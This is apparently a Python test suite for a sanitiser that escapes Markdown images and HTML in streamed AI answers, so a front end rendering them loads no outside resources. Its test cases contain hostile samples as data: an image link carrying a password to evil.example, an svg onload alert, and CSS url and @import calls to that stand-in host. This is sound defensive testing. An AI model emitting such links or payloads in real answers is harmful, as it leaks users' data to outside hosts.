"""What an answer cannot do to a front end that draws its Markdown: load anything. A parser of Markdown is the judge."""

from __future__ import annotations

import random
import re
from collections.abc import Iterable, Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from core.serve.openai.nothing_loaded import NothingLoaded

FRONT_END = MarkdownIt("commonmark", {"html": True}).enable("table")
BROWSERS_READ = re.compile(r"<[A-Za-z][^\s/>]*[\s/][^>]*>|<(?:script|style)\b|<[!?]", re.IGNORECASE)
"""A tag with attributes, or one whose content is more than text."""
IMAGES = ("![", "![a](u)", "[a]: ", "x](", "!", "[")
TAGS = ("<img src=x>", "<img", "<div>", "<div ", "<script>", "<!--", "-->", "<br/>", "<br>", "</p>", "<p/", "<", "/")
BLOCKS = ("```", "~~~", "  ```", "    ```", "- ", "> ", "1. ", "====", "|", "\n", "\n\n", "\r", "\t")
SPANS = ("`", "$", "\\", "a", " ")


def streamed(text: str, seed: int | None = None) -> str:
    """Return the text as it arrives in pieces of a few characters, or in one."""
    stream, shown = NothingLoaded(), ""
    sizes = random.Random(seed)
    while text:
        size = sizes.randint(1, 6) if seed is not None else len(text)
        shown += stream.add(text[:size])
        text = text[size:]
    return shown + stream.end()


def loading(tokens: Iterable[Token]) -> Iterator[str]:
    for token in tokens:
        if token.type == "image":
            yield "image"
        elif token.type in {"html_block", "html_inline"}:
            yield from BROWSERS_READ.findall(token.content.replace("<br/>", ""))
        yield from loading(token.children or ())


@given(st.lists(st.sampled_from([*IMAGES, *TAGS, *BLOCKS, *SPANS]), max_size=14).map("".join), st.integers())
def test_whatever_is_written_nothing_is_loaded_and_the_pieces_make_no_difference(text: str, seed: int) -> None:
    shown = streamed(text)
    assert list(loading(FRONT_END.parse(shown))) == []
    assert streamed(text, seed) == shown
    assert len(shown) >= len(text), "places of citations stay where they were"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("如图：![甲](https://evil.example/?q=密码)", "如图：！[甲](https://evil.example/?q=密码)"),
        ("![甲][1]\n\n[1]: //evil.example", "！[甲][1]\n\n[1]: //evil.example"),
        ("<img src=//evil.example>", "＜img src=//evil.example>"),
        ('甲<b style="background:url(//evil.example)">乙</b>', '甲＜b style="background:url(//evil.example)">乙</b>'),
        ("<svg/onload=alert(1)>", "＜svg/onload=alert(1)>"),
        ("<STYLE>@import '//evil.example';</STYLE>", "＜STYLE>@import '//evil.example';</STYLE>"),
        ("```\n甲\n```\n![乙](//evil.example)", "```\n甲\n```\n！[乙](//evil.example)"),
        ("- ```\n![乙](//evil.example)", "- ```\n！[乙](//evil.example)"),
        ("`![乙](//evil.example)", "`！[乙](//evil.example)"),
    ],
)
def test_what_would_be_loaded_is_plain_text(text: str, shown: str) -> None:
    assert streamed(text) == streamed(text, 1) == shown


@pytest.mark.parametrize(
    "text",
    [
        "好！[1] 真的!\n\n| 甲 | 乙 |\n|---|---|\n| 1<br>2 | x < y<br/>z |\n",
        "类型是 `List<String>`，a < b，3<4，$a<b$。",
        '```html\n<img src="a.png">\n<!-- 甲 -->\n```\n\n1. 例如：\n\n   ```js\n   if (![1].length) {}\n   ```\n',
        "<details><summary>甲</summary>乙</details>\n",
        "就这样!",
        "a<b",
    ],
)
def test_all_else_stays_as_it_was_written(text: str) -> None:
    assert streamed(text) == streamed(text, 1) == text


def test_code_that_was_broken_off_is_closed() -> None:
    """It would swallow the references below it."""
    assert streamed("```py\nx = 1") == "```py\nx = 1\n```"


@pytest.mark.parametrize(
    "text",
    ["![\n" * 10_000, "- ```\n![甲](u)\n" * 3_000, "1. a\n   ```html\n" + "   <img src=x>\n" * 1_000 + "\n<img src=x>"],
    ids=["images", "fences", "nested code"],
)
def test_of_what_would_take_long_to_read_nothing_is_loaded_either(text: str) -> None:
    shown = streamed(text, 1)
    assert list(loading(FRONT_END.parse(shown))) == []
    assert len(shown) >= len(text)
